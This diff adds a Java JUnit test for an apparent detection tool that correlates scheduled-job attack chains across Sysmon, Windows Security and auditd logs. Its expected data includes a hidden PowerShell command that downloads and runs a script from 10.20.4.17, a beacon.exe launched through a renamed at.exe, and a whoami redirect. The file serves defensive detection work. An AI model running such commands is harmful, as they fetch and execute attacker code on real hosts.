@@ -1,0 +1,184 @@
+package dev.atwatch.correlate;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+/** The scenarios of {@code examples/} linked end to end, as {@code examples/README.md} tells. */
+class ExampleChainsTest {
+
+    private static final Path WINDOWS = ChainRun.EXAMPLES.resolve("windows");
+    private static final Path LINUX = ChainRun.EXAMPLES.resolve("linux");
+
+    @BeforeAll
+    static void examplesArePresent() {
+        assumeTrue(Files.isDirectory(WINDOWS), "the examples folder is absent: " + WINDOWS);
+    }
+
+    @Test
+    void atCmdJobLinksItsCreationJobFileAndRun() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-cmd.xml"));
+
+        assertThat(report.chains()).hasSize(2);
+        Chain first = report.chains().get(0);
+        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
+        assertThat(first.host()).isEqualTo("WS-FIN-014.kestrel.lan");
+        assertThat(first.creation().commandLine()).isEqualTo("at  13:20 /interactive cmd");
+        assertThat(first.registration().kind()).isEqualTo("Sysmon 11");
+        assertThat(first.registration().detail()).isEqualTo("C:\\Windows\\Tasks\\At1.job");
+        assertThat(first.execution().commandLine()).isEqualTo("cmd");
+        assertThat(first.execution().user()).isEqualTo("NT AUTHORITY\\SYSTEM");
+        assertThat(iso(first.execution().time())).startsWith("2026-03-10T13:20:00");
+        assertThat(first.job()).containsEntry("JobCommand", "cmd");
+    }
+
+    @Test
+    void weeklyJobWhoseDayIsNotInTheInputIsPartial() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-cmd.xml"));
+
+        Chain second = report.chains().get(1);
+        assertThat(second.missing()).containsExactly(Link.EXECUTION);
+        assertThat(second.registration().detail()).endsWith("At2.job");
+        assertThat(second.note()).isEqualTo("the input ends before the predicted run");
+        assertThat(second.status()).isEqualTo("partial (no execution)");
+    }
+
+    @Test
+    void securityLogAloneLinksThroughTask4698() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS.resolve("security-4688-at-powershell.xml"));
+
+        Chain first = report.chains().get(0);
+        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
+        assertThat(first.creation().kind()).isEqualTo("Security 4688");
+        assertThat(first.registration().kind()).isEqualTo("Security 4698");
+        assertThat(first.registration().detail()).isEqualTo("At1");
+        assertThat(first.execution().commandLine()).startsWith("powershell.exe -nop -w hidden");
+        assertThat(iso(first.execution().time())).startsWith("2026-03-11T10:05:00");
+    }
+
+    @Test
+    void wmiScheduledJobLinksToTheCommandItRan() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-wmi-scheduledjob.xml"));
+
+        Chain first = report.chains().get(0);
+        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
+        assertThat(first.creation().commandLine()).contains("Invoke-WmiMethod");
+        assertThat(first.registration().detail()).endsWith("At1.job");
+        assertThat(first.execution().commandLine())
+                .isEqualTo("cmd.exe /c whoami > c:\\windows\\temp\\x.txt");
+        assertThat(report.chains()).hasSize(5);
+        assertThat(report.chains().subList(1, 5)).noneMatch(Chain::complete);
+    }
+
+    @Test
+    void everyShapeOfTheWindowsExamplesGivesOneChainPerJob() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS);
+
+        // at-cmd 2, at-powershell 2, wmi-scheduledjob 5, at-evasion 2; each job once, although
+        // every event is in five files and the host names differ between shapes.
+        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(11);
+        List<Chain> complete = report.chains().stream().filter(Chain::complete).toList();
+        assertThat(complete)
+                .extracting(c -> c.execution().commandLine())
+                .containsExactly(
+                        "cmd",
+                        "powershell.exe -nop -w hidden -c \"IEX (New-Object"
+                                + " Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
+                        "cmd.exe /c whoami > c:\\windows\\temp\\x.txt",
+                        "C:\\Users\\Public\\beacon.exe");
+        assertThat(complete)
+                .allSatisfy(c -> assertThat(c.execution().kind()).isEqualTo("Sysmon 1"));
+    }
+
+    @Test
+    void renamedAtExeIsReadByItsOriginalFileName() throws Exception {
+        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-evasion.xml"));
+
+        Chain first = report.chains().get(0);
+        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
+        assertThat(first.creation().image()).isEqualTo("C:\\Users\\Public\\svc.exe");
+        assertThat(first.execution().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
+    }
+
+    @Test
+    void taskRegistrationWithoutVisibleCreationStillFindsItsRun() throws Exception {
+        // The Security log cannot tell that svc.exe is at.exe; 4698's task content names the
+        // command, which is enough to find the run.
+        ChainReport report = ChainRun.of(WINDOWS.resolve("security-4688-at-evasion.xml"));
+
+        Chain first = report.chains().get(0);
+        assertThat(first.missing()).containsExactly(Link.CREATION);
+        assertThat(first.registration().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
+        assertThat(first.execution().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
+    }
+
+    @Test
+    void linuxAtJobLinksSpoolFileAndAtdShell() throws Exception {
+        ChainReport report = ChainRun.of(LINUX.resolve("test4-at-job"));
+
+        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
+        Chain chain = report.chains().get(0);
+        assertThat(chain.complete()).isTrue();
+        assertThat(chain.host()).isEqualTo("web01");
+        assertThat(chain.creation().commandLine()).isEqualTo("at now + 1 minute");
+        assertThat(chain.registration().detail())
+                .isEqualTo("/var/spool/cron/atjobs/a0000201c8d418");
+        assertThat(chain.execution().kind()).isEqualTo("auditd EXECVE");
+        assertThat(chain.execution().commandLine()).isEqualTo("sh");
+        assertThat(chain.execution().user()).isEqualTo("1000");
+    }
+
+    @Test
+    void sudoAtJobRunsAsRootAndLinks() throws Exception {
+        ChainReport report = ChainRun.of(LINUX.resolve("test5-sudo-at"));
+
+        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
+        Chain chain = report.chains().get(0);
+        assertThat(chain.complete()).isTrue();
+        assertThat(chain.registration().detail()).isEqualTo("/var/spool/at/a0000a01c8d422");
+        assertThat(chain.execution().user()).isEqualTo("0");
+    }
+
+    @Test
+    void syslogLineAloneIsTheRunWhenAuditdHasNoShell() throws Exception {
+        Path folder = LINUX.resolve("test4-at-job");
+        ChainReport report = ChainRun.of(folder.resolve("audit.log"), folder.resolve("syslog"));
+
+        assertThat(report.chains()).hasSize(1);
+        assertThat(report.chains().get(0).complete()).isTrue();
+    }
+
+    @Test
+    void chainsDoNotDependOnInputOrder() throws Exception {
+        Path sysmon = WINDOWS.resolve("sysmon-at-cmd.xml");
+        Path security = WINDOWS.resolve("security-4688-at-cmd.xml");
+
+        String forward = ChainRun.describe(ChainRun.of(sysmon, security));
+        String backward = ChainRun.describe(ChainRun.of(security, sysmon));
+
+        assertThat(backward).isEqualTo(forward);
+    }
+
+    @Test
+    void alertOnEitherLogOfTheCreationNamesTheChain() throws Exception {
+        ChainReport report =
+                ChainRun.of(
+                        WINDOWS.resolve("sysmon-at-cmd.xml"),
+                        WINDOWS.resolve("security-4688-at-cmd.xml"));
+
+        Chain first = report.chains().get(0);
+        // at.exe in Sysmon and in 4688, and the cmd /c wrapper in both.
+        assertThat(first.creationSources()).hasSize(4);
+        assertThat(Correlator.chainsByCreation(report.chains()))
+                .containsEntry(first.creationSources().get(0), "C1");
+    }
+
+    private static String iso(double epochSeconds) {
+        return java.time.Instant.ofEpochMilli((long) (epochSeconds * 1000)).toString();
+    }
+}
